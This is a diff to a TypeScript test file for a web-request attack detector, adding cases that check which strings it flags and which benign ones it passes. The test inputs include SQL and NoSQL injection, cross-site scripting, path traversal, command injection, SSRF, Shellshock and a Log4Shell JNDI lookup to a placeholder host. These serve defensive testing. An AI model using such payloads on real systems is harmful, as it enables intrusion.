@@ -15,7 +15,7 @@ import { normalScore } from '../../../processors/anomalies/normal.ts'
 import { hourOfWeek } from '../../../processors/anomalies/hours.ts'
 import { forecast, learnSeason, newSeason } from '../../../processors/anomalies/season.ts'
 import { learnScatter, newScatter, scatterOf } from '../../../processors/anomalies/scatter.ts'
-import { attackIn, attackInBody, classesOf } from '../../../processors/anomalies/signs.ts'
+import { attackIn, attackInBody, classesOf, isAttackInHeader } from '../../../processors/anomalies/signs.ts'
 import { random } from '../../topology/recording.ts'
 
 const HOUR = 3_600_000_000
@@ -177,6 +177,7 @@ describe('signs of attack', () => {
   it('finds them in bodies', () => {
     expect(attackInBody({ user: { name: ['x', { y: "' or 1=1 --" }] } })).toBe('SQL')
     expect(attackInBody({ text: 'plain words, even "quoted" ones' })).toBeUndefined()
+    expect(attackInBody({ user: { password: { $ne: null } } })).toBe('an operator of a database')
   })
 
   it('takes time in proportion to the text at most, whatever it is', () => {
@@ -185,4 +186,47 @@ describe('signs of attack', () => {
     for (let i = 0; i < 50; i++) signOf(nasty)
     expect(performance.now() - start).toBeLessThan(2_000)
   })
+})
+
+describe('signs of attack', () => {
+  it.each([
+    ["')) or (('1'='1", 'SQL'],
+    ["x' AND EXTRACTVALUE(1,0x7e)--", 'SQL'],
+    ['<details open ontoggle=prompt(1)>', 'script'],
+    ['/static/..;/manager', 'path traversal'],
+    ['`whoami`', 'command'],
+    ['{% import os %}', 'template or lookup'],
+    ['filter[$where]', 'an operator of a database'],
+    ['http://127.0.0.1:6379/', 'an address that only the server can reach'],
+    ['//elsewhere.example', 'a link to elsewhere'],
+    ['rO0ABXNyABFqYXZh', 'a serialised object'],
+  ])('are in %s', (text, what) => expect(signOf(text)).toBe(what))
+
+  it.each([
+    '"rock" or "pop"',
+    "dogs' or cats' beds",
+    'cheap; ideal for kids',
+    'Q && A',
+    'union square, drop in and select a table',
+    'please order by phone -- thanks',
+    "the boys'; and R&D",
+    '50% off, a < b and b > c',
+    'eyJpZCI6MTIzfQ==',
+    '東京タワー',
+    'https://shop.example/items?id=3&ref=a',
+  ])('are not in %s', (text) => expect(signOf(text)).toBeUndefined())
+
+  it.each(['() { :; }; /bin/id', '${jndi:ldap://x.example/a}', "Mozilla/5.0' OR '1'='1", '"><script>'])(
+    'are in the header %s',
+    (text) => expect(isAttackInHeader(text)).toBe(true),
+  )
+
+  it.each([
+    'Mozilla/5.0 (Linux; U; Android 4.4; id; SM-S928B) AppleWebKit/537.36',
+    '"Chromium";v="126", "Not:A-Brand";v="99"',
+    'W/"33a64df5", "bfc13a64"',
+    'a=1; id=5; ls=2; path=/x',
+    'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
+    'https://shop.example/find?q=lamp&sort=price#top',
+  ])('are not in the header %s', (text) => expect(isAttackInHeader(text)).toBe(false))
 })
